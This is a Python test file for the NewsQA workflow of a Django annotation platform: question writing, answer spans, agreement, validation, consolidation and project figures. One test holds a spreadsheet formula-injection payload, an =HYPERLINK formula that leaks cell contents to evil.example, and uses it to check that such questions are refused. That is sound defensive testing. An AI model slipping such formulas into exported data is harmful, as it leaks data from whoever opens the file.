"""NewsQA from articles to consolidated records, through the real services and jobs."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError

from annotation import engine
from annotation.models import Assignment, Item, Stage
from collector.models import Job
from tests.reads import reads

BODY_PHRASES = {
    "march": "in March",
    "weiss": "Dario Weiss",
    "books": "80,000 books",
}


def phrase_span(item: Item, phrase: str) -> list[int]:
    start = item.document.body.index(phrase)
    return [start, start + len(phrase)]


def stage(project, kind: str) -> Stage:
    return project.stages.get(kind=kind)


def claim(worker, project):
    assignment = engine.task_claim(worker=worker, project=project)
    assert assignment is not None, f"{worker} got no task"
    return engine.assignment_for_worker(assignment_id=assignment.pk, worker=worker)


def claim_item(worker, project, item):
    """Claim until ``item`` comes up, releasing other tasks on the way."""
    task = engine.task_claim(worker=worker, project=project)
    while task is not None and task.item_id != item.pk:
        engine.task_release(assignment_id=task.pk, worker=worker)
        task = engine.task_claim(worker=worker, project=project)
    assert task is not None, f"{worker} never got item {item.pk}"
    return task


def test_project_from_recipe_has_the_papers_stages_and_defaults(newsqa_project):
    kinds = list(newsqa_project.stages.order_by("order").values_list("kind", "params"))
    assert [k for k, _ in kinds] == [
        "newsqa_articles", "newsqa_split", "newsqa_question", "newsqa_answer",
        "newsqa_agreement", "newsqa_validate", "newsqa_consolidate",
    ]
    params = dict(kinds)
    assert params["newsqa_question"]["max_questions"] == 3
    assert params["newsqa_answer"]["answers_per_question"] == 2
    assert params["newsqa_answer"]["max_extra_answers"] == 3
    assert params["newsqa_split"]["seed"] == 20161107


def test_bad_stage_parameters_are_refused_naming_stage_and_field(news_corpus):
    with pytest.raises(ValidationError, match=r"stage 4 \(Answer sourcing\): parameter "
                                              r"'answers_per_question': expected int"):
        engine.project_create(name="bad", recipe="newsqa", corpus=news_corpus,
                              params={4: {"answers_per_question": "two"}})
    with pytest.raises(ValidationError, match="unknown parameter"):
        engine.project_create(name="bad2", recipe="newsqa", corpus=news_corpus,
                              params={3: {"questions": 3}})


def test_automatic_stages_split_and_open_question_items(newsqa_project):
    questions = Item.objects.filter(stage=stage(newsqa_project, "newsqa_question"))
    assert questions.count() == 2
    assert set(questions.values_list("status", flat=True)) == {"open"}
    assert all(q.split in {"train", "dev", "test"} for q in questions)
    assert Assignment.objects.filter(item__in=questions, status="open").count() == 2
    assert Job.objects.filter(kind="stage_run", status="done").count() == 2


def test_automatic_stage_run_twice_changes_nothing(newsqa_project, committed):
    before = sorted(Item.objects.values_list("stage__kind", "key", "status", "split"))
    for kind in ("newsqa_articles", "newsqa_split"):
        with committed():
            engine.stage_run_enqueue(stage=stage(newsqa_project, kind))
    assert sorted(Item.objects.values_list("stage__kind", "key", "status", "split")) == before


def test_question_overlap_is_refused_with_an_explanation(newsqa_project, workers):
    task = claim(workers["questioner"], newsqa_project)
    with pytest.raises(ValidationError, match="come from the highlights"):
        engine.task_submit(assignment_id=task.pk, worker=workers["questioner"],
                           payload={"questions": ["Will construction start in March?"]})
    with pytest.raises(ValidationError, match='"Why" questions are not allowed'):
        engine.task_submit(assignment_id=task.pk, worker=workers["questioner"],
                           payload={"questions": ["Why did the council vote for it?"]})
    with pytest.raises(ValidationError, match="at most 3 questions"):
        engine.task_submit(assignment_id=task.pk, worker=workers["questioner"],
                           payload={"questions": [f"Who is person number {n}?" for n in range(4)]})
    assert not task.submissions.exists()


def _write_questions(project, worker, committed):
    task = claim(worker, project)
    assert "body" not in task.stage.kind_spec.context(task.item)  # questioners see no article
    with committed():
        engine.task_submit(assignment_id=task.pk, worker=worker, payload={"questions": [
            "When will the builders begin work?", "Who opposed the plan?",
        ]})
    return task.item


def test_full_flow_agreement_validation_and_consolidation(newsqa_project, workers, committed,
                                                          run_reports):
    article = _write_questions(newsqa_project, workers["questioner"], committed)
    answers = Item.objects.filter(stage__kind="newsqa_answer", document=article.document)
    assert answers.count() == 2
    # The questioner never answers questions about that article.
    assert engine.task_claim(worker=workers["questioner"], project=newsqa_project) is not None
    assert not Assignment.objects.filter(item__in=answers, worker=workers["questioner"]).exists()

    when = answers.get(data__question="When will the builders begin work?")
    who = answers.get(data__question="Who opposed the plan?")

    def answer(worker, item, payload):
        task = claim_item(worker, newsqa_project, item)
        context = task.stage.kind_spec.context(task.item)
        assert "answers" not in context and "unique_answers" not in context
        with committed():
            engine.task_submit(assignment_id=task.pk, worker=worker, payload=payload)

    # "when": two answerers agree ("in March" vs "March" normalise differently? no: the
    # key is the normalised text, so mark the same words).
    answer(workers["ann1"], when, {"spans": [phrase_span(when, "in March")]})
    answer(workers["ann2"], when, {"spans": [phrase_span(when, "in March")]})
    # "who": the first two disagree, so a third answerer is asked; then the extra answers
    # run out (max_extra_answers = 1 here) and the question goes to validation.
    Stage.objects.filter(pk=who.stage_id).update(params={**who.stage.params,
                                                         "max_extra_answers": 1})
    answer(workers["ann1"], who, {"spans": [phrase_span(who, "Dario Weiss")]})
    answer(workers["ann2"], who, {"no_answer": True})
    who.refresh_from_db()
    assert (who.status, who.overlap) == ("open", 3)
    answer(workers["ann3"], who, {"spans": [phrase_span(who, "Mayor Lena Ortiz")]})
    who.refresh_from_db()
    assert who.status == "done"

    agreement_items = Item.objects.filter(stage__kind="newsqa_agreement")
    assert {i.data["question"]: i.result["agreed"] for i in agreement_items} == {
        "When will the builders begin work?": True, "Who opposed the plan?": False,
    }
    validation = Item.objects.get(stage__kind="newsqa_validate")
    assert len(validation.data["unique_answers"]) == 3
    # Answerers of that question may not validate it.
    for name in ("ann1", "ann2", "ann3"):
        assert validation.exclusions.filter(user=workers[name]).exists()

    for name in ("val1", "val2"):
        task = claim_item(workers[name], newsqa_project, validation)
        options = task.stage.kind_spec.context(task.item)["options"]
        assert [o["text"] for o in options] == ["Dario Weiss", "No answer in the article",
                                                "Mayor Lena Ortiz"]
        with committed():
            engine.task_submit(assignment_id=task.pk, worker=workers[name], payload={"choice": 0})

    records = {i.result["q"]: i.result for i in Item.objects.filter(
        stage__kind="newsqa_consolidate", status="done")}
    body = article.document.body
    march = records["When will the builders begin work?"]
    assert march["agreed"] is True and march["validated"] is False
    assert body[march["consensus"]["s"]:march["consensus"]["e"]] == "in March"
    weiss = records["Who opposed the plan?"]
    assert weiss["validated"] is True and weiss["agreed"] is True
    assert body[weiss["consensus"]["s"]:weiss["consensus"]["e"]] == "Dario Weiss"
    assert weiss["validatedAnswers"][0]["count"] == 2
    assert weiss["isAnswerAbsent"] == pytest.approx(1 / 3)
    assert len(weiss["answers"]) == 3

    # Every automatic stage says what its last run received, passed on and dropped.
    reports = run_reports(newsqa_project)
    assert reports["newsqa_articles"] == (2, 2, {}, [])
    assert reports["newsqa_split"] == (2, 2, {}, [])
    # the last agreement run: the question without agreement, sent to validation
    assert reports["newsqa_agreement"] == (
        1, 1, {}, ["0 agreed: to consolidation; 1 without agreement: to validation"])
    assert reports["newsqa_consolidate"] == (1, 1, {}, [])


def test_overlap_is_never_exceeded(newsqa_project, workers, committed):
    article = _write_questions(newsqa_project, workers["questioner"], committed)
    item = Item.objects.filter(stage__kind="newsqa_answer", document=article.document).first()
    holders = []
    for name in ("ann1", "ann2", "ann3", "val1"):
        task = engine.task_claim(worker=workers[name], project=newsqa_project)
        if task is not None and task.item_id == item.pk:
            holders.append(name)
    assert len(holders) == 2
    assert item.assignments.filter(status="active").count() == 2
    assert not item.assignments.filter(status="open").exists()


def test_release_returns_the_slot_and_the_worker_does_not_get_it_again(newsqa_project,
                                                                        workers):
    task = claim(workers["ann1"], newsqa_project)
    engine.task_release(assignment_id=task.pk, worker=workers["ann1"])
    task.refresh_from_db()
    assert task.status == "released"
    assert task.item.assignments.filter(status="open").count() == 1
    other = engine.task_claim(worker=workers["ann1"], project=newsqa_project)
    assert other is None or other.item_id != task.item_id
    again = claim(workers["ann2"], newsqa_project)
    assert again.item_id == task.item_id


def test_expired_leases_come_back_and_late_submits_are_refused(newsqa_project, workers):
    from datetime import timedelta

    from django.utils import timezone

    task = claim(workers["ann1"], newsqa_project)
    Assignment.objects.filter(pk=task.pk).update(
        lease_expires_at=timezone.now() - timedelta(seconds=1)
    )
    assert engine.leases_expire() == 1
    task.refresh_from_db()
    assert task.status == "expired"
    assert task.item.assignments.filter(status="open").count() == 1
    assert claim(workers["ann2"], newsqa_project).item_id == task.item_id
    # Its slot was taken meanwhile (tests/annotation/test_late_submit.py: when it was not,
    # the late answer is kept).
    with pytest.raises(engine.TaskError, match="ran out"):
        engine.task_submit(assignment_id=task.pk, worker=workers["ann1"],
                           payload={"questions": ["Who opposed the plan?"]})


def test_submitting_someone_elses_task_is_refused(newsqa_project, workers):
    task = claim(workers["ann1"], newsqa_project)
    with pytest.raises(engine.TaskError, match="not yours"):
        engine.task_submit(assignment_id=task.pk, worker=workers["ann2"],
                           payload={"questions": ["Who opposed the plan?"]})


def test_answer_spans_are_validated(newsqa_project, workers, committed):
    article = _write_questions(newsqa_project, workers["questioner"], committed)
    item = Item.objects.filter(stage__kind="newsqa_answer").first()
    task = claim_item(workers["ann1"], newsqa_project, item)
    size = len(article.document.body)
    for payload, message in [
        ({"spans": []}, "select at least one span"),
        ({"spans": [[5, 2]]}, "outside the article"),
        ({"spans": [[0, size + 1]]}, "outside the article"),
        ({"spans": [["a", 3]]}, "expected \\[start, end\\]"),
        # The page merges what overlaps; sent by hand they were stored, and a validator
        # was shown the text twice.
        ({"spans": [[0, 10], [0, 10]]}, "\\[0, 10\\] and \\[0, 10\\] overlap"),
        ({"spans": [[5, 12], [0, 10]]}, "\\[0, 10\\] and \\[5, 12\\] overlap"),
    ]:
        with pytest.raises(ValidationError, match=message):
            engine.task_submit(assignment_id=task.pk, worker=workers["ann1"], payload=payload)
    with committed():  # spans that touch do not overlap
        done = engine.task_submit(assignment_id=task.pk, worker=workers["ann1"],
                                  payload={"spans": [[5, 12], [0, 5]]})
    assert done.payload == {"spans": [[0, 5], [5, 12]]}


def test_emits_in_one_commit_run_their_stage_once(newsqa_project):
    # Two articles were emitted to the split stage in one transaction: one run took both,
    # and the second on-commit call found nothing pending and created no job.
    runs = Job.objects.filter(kind="stage_run",
                              params__stage_id=stage(newsqa_project, "newsqa_split").pk)
    assert runs.count() == 1


def test_the_author_of_a_question_does_not_validate_its_answers(newsqa_project, workers,
                                                                committed):
    """Questioners, answerers and validators are three groups (design: one worker does not
    take two roles the protocol separates): the question's author is refused its
    validation by the claim itself, as its answerers are."""
    questioner = workers["questioner"]
    article = _write_questions(newsqa_project, questioner, committed)
    answer_stage = stage(newsqa_project, "newsqa_answer")
    Stage.objects.filter(pk=answer_stage.pk).update(
        params={**answer_stage.params, "max_extra_answers": 0})
    who = Item.objects.get(stage__kind="newsqa_answer", document=article.document,
                           data__question="Who opposed the plan?")
    for name, payload in (("ann1", {"spans": [phrase_span(who, "Dario Weiss")]}),
                          ("ann2", {"no_answer": True})):
        task = claim_item(workers[name], newsqa_project, who)
        with committed():
            engine.task_submit(assignment_id=task.pk, worker=workers[name], payload=payload)
    validation = Item.objects.get(stage__kind="newsqa_validate")
    assert validation.assignments.filter(status="open").count() == 2

    offered = []  # every task the questioner is given, each handed back
    while (task := engine.task_claim(worker=questioner, project=newsqa_project)) is not None:
        offered.append(task.item_id)
        engine.task_release(assignment_id=task.pk, worker=questioner)
    assert offered and validation.pk not in offered
    assert set(validation.exclusions.values_list("user__username", flat=True)) == {
        "questioner", "ann1", "ann2"}
    assert claim_item(workers["val1"], newsqa_project, validation).item_id == validation.pk


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Who pays?")'


def test_a_question_that_would_run_as_a_formula_is_refused_under_it(
        newsqa_project, workers, committed, client_for):
    """The release's combined-newsqa-data-v1.csv carries each question as written, and a
    spreadsheet runs a field starting with =, +, - or @: such a question never gets in."""
    from django.urls import reverse

    from annotation.models import Submission

    questioner = workers["questioner"]
    client = client_for(questioner)
    location = client.post(reverse("annotation:task_next"))["Location"]
    task = Assignment.objects.get(worker=questioner, status="active")
    refused = client.post(location, {"question": ["Who opposed the plan?", FORMULA]})
    assert refused.status_code == 400
    page = refused.content.decode()
    second = page.split('data-testid="question-2"', 1)[1].split('data-testid="question-3"')[0]
    assert 'data-testid="field-error-question-2"' in second
    assert "Start your question with a word" in second
    assert "field-error" not in page.split('data-testid="question-2"', 1)[0].split(
        'data-testid="question-1"', 1)[1]
    # The check as the worker types says the same.
    verdict = client.post(reverse("annotation:question_check", args=[task.pk]),
                          {"question": "@SUM(A1:A9) who pays?"}).content.decode()
    assert "Start your question with a word" in verdict
    # Through the API's payload too, and nothing is stored.
    with pytest.raises(ValidationError, match="question 1: Start your question with a word"):
        engine.task_submit(assignment_id=task.pk, worker=questioner,
                           payload={"questions": ["-1+1 who pays for the library?"]})
    assert not Submission.objects.filter(worker=questioner).exists()
    with committed():
        engine.task_submit(assignment_id=task.pk, worker=questioner,
                           payload={"questions": ["Who pays for the library?"]})
    assert Submission.objects.filter(worker=questioner).count() == 1


def test_the_project_figures_count_questions_and_answers_that_count(
        newsqa_project, workers, committed, admin_user, client_for):
    """The project page's figures (and the API's): gold items of the answer stage are not
    questions, and an answer its worker corrected counts once (the correction), as in the
    record agreement and the release read."""
    import json

    from django.urls import reverse

    from annotation import gold, selectors

    article = _write_questions(newsqa_project, workers["questioner"], committed)
    answer_stage = stage(newsqa_project, "newsqa_answer")
    gold.gold_items_import(stage=answer_stage, name="gold.jsonl", purpose="check", text="\n".join(
        json.dumps({"key": f"g{n}", "data": {"question": "Who voted against the plan?"},
                    "document": article.document.external_id,
                    "expected": {"spans": [phrase_span(article, "Dario Weiss")]},
                    "reason": "The article says so."}) for n in range(2)))
    gold.gold_items_import(stage=answer_stage, name="training.jsonl", purpose="training",
                           text=json.dumps({
                               "key": "t1", "data": {"question": "When will work begin?"},
                               "document": article.document.external_id,
                               "expected": {"spans": [phrase_span(article, "in March")]},
                               "reason": "The article says so."}))
    when = Item.objects.get(stage=answer_stage, gold="",
                            data__question="When will the builders begin work?")
    march = {"spans": [phrase_span(when, "in March")]}
    first = engine.task_submit(assignment_id=claim_item(workers["ann1"], newsqa_project, when).pk,
                               worker=workers["ann1"], payload={"no_answer": True})
    engine.submission_correct(submission_id=first.pk, worker=workers["ann1"], payload=march)
    with committed():
        engine.task_submit(assignment_id=claim_item(workers["ann2"], newsqa_project, when).pk,
                           worker=workers["ann2"], payload=march)
    when.refresh_from_db()
    assert when.status == "done" and when.submissions.count() == 3

    figures = selectors.project_dashboard(project=newsqa_project)["figures"]
    assert figures["questions"] == 2  # the two written, not the three gold items
    assert figures["answers_per_question"] == 2.0
    assert figures["answers_distribution"] == [(2, 1)]
    page = client_for(admin_user).get(
        reverse("annotation:project_detail", args=[newsqa_project.pk])).content.decode()
    stats = page.split('data-testid="figures"', 1)[1].split("</section>", 1)[0]
    assert '<div class="value">2</div>questions' in stats.replace("\n", "")


def _rows_read(monkeypatch, run) -> int:
    return reads(monkeypatch, run)[1]


def test_the_newsqa_figures_are_counted_by_the_database_not_read_per_question(
        newsqa_project, monkeypatch):
    """The project page's NewsQA figures read as many rows for 16 finished questions as for
    4 (they read every agreement and consolidated record before), with the same figures."""
    from annotation import selectors

    stages = {s.kind: s for s in newsqa_project.stages.all()}
    made = [0]

    def finish(n: int) -> None:
        for k in range(n):
            made[0] += 1
            key = f"finished-{made[0]}"
            for kind, agreed in (("newsqa_agreement", k % 2 == 0),
                                 ("newsqa_consolidate", k % 4 != 3)):
                Item.objects.create(project=newsqa_project, stage=stages[kind], key=key,
                                    status=Item.Status.DONE, result={"agreed": agreed})
            Item.objects.create(project=newsqa_project, stage=stages["newsqa_answer"],
                                key=key, status=Item.Status.DONE, data={"question": key})

    def figures() -> dict:
        return selectors._newsqa_figures(newsqa_project)

    finish(4)
    small = _rows_read(monkeypatch, figures)
    got = figures()
    assert (got["checked"], got["agreement_rate"], got["needed_validation"]) == (4, 50.0, 50.0)
    assert (got["consolidated"], got["agreed_after_validation"]) == (4, 75.0)
    assert got["answers_distribution"] == [(0, 4)] and got["answers_per_question"] == 0.0
    finish(12)
    assert _rows_read(monkeypatch, figures) == small
    got = figures()
    assert (got["checked"], got["agreement_rate"], got["consolidated"]) == (16, 50.0, 16)
    assert got["agreed_after_validation"] == 75.0
    assert got["answers_distribution"] == [(0, 16)]
